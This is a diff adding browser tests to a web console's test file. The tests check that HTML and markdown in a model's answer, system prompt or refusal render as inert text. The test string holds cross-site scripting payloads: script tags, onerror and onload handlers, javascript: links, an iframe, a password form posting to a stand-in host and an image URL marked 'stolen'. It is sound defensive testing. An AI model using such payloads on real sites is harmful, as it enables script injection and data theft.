@@ -101,6 +101,46 @@ def test_an_answer_appears_as_it_comes_and_tells_what_it_cost(console, upstream,
     expect(answers(console)).to_have_count(0)
 
 
+MARKUP = """<script>document.title = "run"</script>
+<img src=x onerror="document.title='run'"><svg onload="document.title='run'">
+<iframe srcdoc="<script>parent.document.title='run'</script>"></iframe>
+<a href="javascript:document.title='run'">a link</a> <style>* { display: none }</style>
+[a link](javascript:alert(1)) ![a picture](https://elsewhere.example/?stolen=1)
+<form action="https://elsewhere.example/"><input name="password"></form> </div></article> &lt;b&gt; ${1 + 1}"""
+
+
+def test_markup_in_an_answer_is_text_and_does_nothing(console, upstream, token):
+    """C06."""
+    asked, title = [], console.page.title()
+    console.page.on("request", lambda request: asked.append(request.url))
+    # Cut where a reader of markup would have to put it together.
+    upstream.served.answer("m", stream(*[text(part) for part in re.split("(?<=<)", MARKUP)], *END))
+    console.open(f"/playground?token_id={token['id']}")
+    console.field("System prompt").fill(MARKUP)
+    say(console, MARKUP)
+    said = answers(console).locator(".text")
+    expect(answers(console)).to_contain_text("12 tokens in")
+    assert said.inner_text() == MARKUP
+    assert said.evaluate("node => node.childElementCount") == 0
+    question = console.page.locator(".said.user .text")
+    assert question.evaluate("node => [node.childElementCount, node.textContent]") == [0, MARKUP]
+    made = "script[src=x], iframe, svg[onload], form[action*=elsewhere], a[href^=javascript]"
+    assert console.page.locator(made).count() == 0
+    assert [url for url in asked if not url.startswith(console.url)] == []
+    console.go("Dashboard")
+    assert "run" not in {console.page.title(), title}
+
+
+def test_markup_in_a_refusal_is_text_and_does_nothing(console, upstream, token):
+    """C06."""
+    upstream.served.answer("m", refuse(400, MARKUP, code="<b>no</b>"))
+    console.open(f"/playground?token_id={token['id']}")
+    say(console, "Hello")
+    refused = console.page.get_by_role("alert")
+    expect(refused).to_contain_text("<img src=x onerror=")
+    assert refused.locator("img, script, iframe, form, b").count() == 0
+
+
 def test_an_answer_that_breaks_off_does_not_look_finished(console, upstream, token, look):
     upstream.served.answer("m", stream(text("Half of"), CUT))
     console.open(f"/playground?token_id={token['id']}")
